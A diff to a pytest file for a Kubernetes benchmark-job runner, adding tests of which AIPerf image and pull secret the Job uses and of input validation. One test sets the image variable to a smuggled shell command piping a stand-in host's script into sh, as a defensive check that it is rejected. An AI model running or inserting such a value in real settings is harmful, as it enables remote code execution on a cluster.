@@ -1,7 +1,14 @@
 """A benchmark on a Kubernetes cluster, against the API emulator: the worker applies the Secret,
 the ConfigMap and the Job, waits for the Job, reads each point's export from the pod's log, and
 deletes what held the key. The test plays the cluster's part (the emulator runs no controllers):
-it starts the pod, writes its log and marks the Job finished."""
+it starts the pod, writes its log and marks the Job finished.
+
+Why the emulator (a stand-in, see tests/drivers/kube_emulator.py): the worker reads each point's
+results from the pod's log, which kwok's nodes do not serve, so the test writes the log and plays
+the Job controller finishing or failing the Job. The Job accepted and run to completion by the real
+Job controller, from a mirrored AIPerf image, is
+tests/kube_real/test_benchmark_job_on_real_cluster.py.
+"""
 
 from __future__ import annotations
 
@@ -12,7 +19,7 @@ from typing import Any
 import pytest
 from django.db import connection
 
-from deployments import benchmark_run, benchmarks
+from deployments import benchmark_run, benchmarks, services
 from deployments.drivers.kube.benchmark_job import RESULT_MARKER, benchmark_names
 from deployments.models import Benchmark, BenchmarkStatus, Deployment
 from tests.benchmarks.test_profile import EXPORT
@@ -62,6 +69,22 @@ def _queue(cast: Cast, deployment: Deployment) -> tuple[Benchmark, str]:
     return benchmark, benchmark_names(serving.slug, str(benchmark.pk))
 
 
+def _applied_job(
+    emulator: RunningEmulator,  # noqa: F811
+    cast: Cast,
+    endpoint: Deployment,  # noqa: F811
+) -> dict[str, Any]:
+    """Run a benchmark as far as its Job, end the Job as failed; the Job as it was applied."""
+    benchmark, name = _queue(cast, endpoint)
+    thread = _run_in_background(str(benchmark.pk))
+    wait_until(lambda: emulator.get("batch/v1", "Job", NS, name) is not None, "the Job applied")
+    job = emulator.get("batch/v1", "Job", NS, name)
+    assert job is not None
+    emulator.put("batch/v1", "Job", NS, {**job, "status": {"failed": 1}})
+    thread.join(timeout=60)
+    return job
+
+
 def test_the_sweep_runs_as_a_job_and_its_log_carries_the_results(
     cast: Cast,
     emulator: RunningEmulator,  # noqa: F811
@@ -108,3 +131,53 @@ def test_a_failed_job_fails_the_benchmark_and_revokes_its_key(
     assert benchmark.api_key is not None and benchmark.api_key.revoked_at is not None
     assert benchmark.deployment.events.filter(reason="BenchmarkFailed").exists()
     assert emulator.get("v1", "Secret", NS, name) is None
+
+
+def test_the_job_runs_aiperf_from_the_clusters_image_else_the_platforms(
+    cast: Cast,
+    emulator: RunningEmulator,  # noqa: F811
+    endpoint: Deployment,  # noqa: F811
+    settings: Any,
+) -> None:
+    settings.PLINTH_BENCHMARK_IMAGE = "platform.example/plinth/aiperf:0.13.0"
+    (container,) = _applied_job(emulator, cast, endpoint)["spec"]["template"]["spec"]["containers"]
+    assert container["image"] == "platform.example/plinth/aiperf:0.13.0"
+    assert "pip" not in container["args"][0]  # the image has AIPerf: nothing to fetch
+    # An air-gapped cluster's operator names the mirror, and the secret its registry needs.
+    air_gapped = {
+        "benchmark_aiperf": {"type": "image", "image": "registry.internal/aiperf:0.13.0"},
+        "image_pull_secrets": ["mirror-cred"],
+    }
+    services.update_cluster(
+        cast.actor(cast.alice, cast.acme), endpoint.cluster_id, settings=air_gapped
+    )
+    pod = _applied_job(emulator, cast, endpoint)["spec"]["template"]["spec"]
+    assert pod["containers"][0]["image"] == "registry.internal/aiperf:0.13.0"
+    assert pod["imagePullSecrets"] == [{"name": "mirror-cred"}]
+
+
+def test_a_malformed_platform_image_fails_the_benchmark_naming_the_variable(
+    cast: Cast,
+    emulator: RunningEmulator,  # noqa: F811
+    endpoint: Deployment,  # noqa: F811
+    settings: Any,
+) -> None:
+    settings.PLINTH_BENCHMARK_IMAGE = "aiperf; curl evil.example | sh"
+    benchmark, name = _queue(cast, endpoint)
+    thread = _run_in_background(str(benchmark.pk))
+
+    def ended_or_applied() -> bool:
+        benchmark.refresh_from_db()
+        applied = emulator.get("batch/v1", "Job", NS, name) is not None
+        return applied or benchmark.status in (BenchmarkStatus.FAILED, BenchmarkStatus.SUCCEEDED)
+
+    wait_until(ended_or_applied, "the run ends or applies its Job")
+    job = emulator.get("batch/v1", "Job", NS, name)
+    if job is not None:  # so the run ends rather than waits out its deadline
+        emulator.put("batch/v1", "Job", NS, {**job, "status": {"failed": 1}})
+    thread.join(timeout=60)
+    assert job is None  # nothing reached the cluster
+    benchmark.refresh_from_db()
+    assert benchmark.status == BenchmarkStatus.FAILED
+    assert "PLINTH_BENCHMARK_IMAGE" in benchmark.error
+    assert benchmark.api_key is not None and benchmark.api_key.revoked_at is not None
